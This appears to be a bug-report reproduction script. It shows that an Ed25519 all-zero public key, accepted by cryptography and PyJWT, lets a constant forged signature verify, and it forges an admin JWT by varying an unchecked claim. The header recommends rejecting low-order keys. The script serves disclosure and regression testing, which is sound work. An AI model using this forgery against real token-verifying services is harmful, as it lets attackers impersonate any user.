#!/usr/bin/env bash
# Expected: a library that verifies tokens rejects a public key for which no private key is needed, or no signature is valid.
# Seen (cryptography 50.0.2 with its OpenSSL, PyJWT 2.15.1): the Ed25519 key of 32 zero bytes is accepted, from a JWK too,
# and the constant signature R = 1, S = 0 is valid for one text in four. So a token with any claims is forged by trying a
# few values of a claim that nobody checks. PyNaCl 1.6.2 (libsodium) rejects every such signature.
# Impact: zeros are what a key has that was never filled in. If a JWK Set has one, anyone can sign as anyone. The same
# holds for the other points of order 1, 2, 4 and 8; reject them when the key is read.
# Source: RFC 8032 (section 5.1.7) does not demand the check; libsodium makes it.
# Needs python3 with venv. Exit 0: as described, 1: it has changed, 2: it could not be run.
set -euo pipefail

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
trap 'exit 2' INT TERM
give_up() {
  tail -n 20 "$work/log" >&2
  exit 2
}

python3 -m venv "$work/venv" >>"$work/log" 2>&1 || give_up
timeout --foreground 120 "$work/venv/bin/pip" install --quiet cryptography==50.0.2 PyJWT==2.15.1 PyNaCl==1.6.2 \
  >>"$work/log" 2>&1 || give_up

cat >"$work/forge.py" <<'PYTHON'
import base64, json, sys

import jwt
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.backends.openssl import backend
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from nacl.exceptions import BadSignatureError
from nacl.signing import VerifyKey

ZEROS = bytes(32)
FORGED = b"\x01" + bytes(63)
TEXTS = [b"text %d" % number for number in range(1000)]

def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

def valid(verify, fault):
    def one(text):
        try:
            verify(text)
        except fault:
            return False
        return True
    return sum(map(one, TEXTS))

openssl = Ed25519PublicKey.from_public_bytes(ZEROS)
by_openssl = valid(lambda text: openssl.verify(FORGED, text), InvalidSignature)
by_sodium = valid(lambda text: VerifyKey(ZEROS).verify(text, FORGED), BadSignatureError)
print(f"{backend.openssl_version_text()}: {by_openssl} of {len(TEXTS)} forged signatures are valid")
print(f"libsodium: {by_sodium} of {len(TEXTS)}")

key = jwt.PyJWK({"kty": "OKP", "crv": "Ed25519", "x": encoded(ZEROS)}, algorithm="EdDSA")
claims = None
for attempt in range(1000):
    parts = ({"alg": "EdDSA"}, {"sub": "admin", "jti": str(attempt)})
    token = ".".join([encoded(json.dumps(part).encode()) for part in parts] + [encoded(FORGED)])
    try:
        claims = jwt.decode(token, key, algorithms=["EdDSA"])
        break
    except jwt.InvalidSignatureError:
        pass
print(f"PyJWT {jwt.__version__}: a token without a signer is valid after {attempt + 1} attempts: {claims}")
same = 150 < by_openssl < 350 and by_sodium == 0 and claims is not None and claims["sub"] == "admin"
print("as described" if same else "THE BEHAVIOUR HAS CHANGED")
sys.exit(0 if same else 1)
PYTHON

status=0
timeout --foreground 60 "$work/venv/bin/python" "$work/forge.py" 2>>"$work/log" || status=$?
((status <= 1)) || give_up
exit "$status"
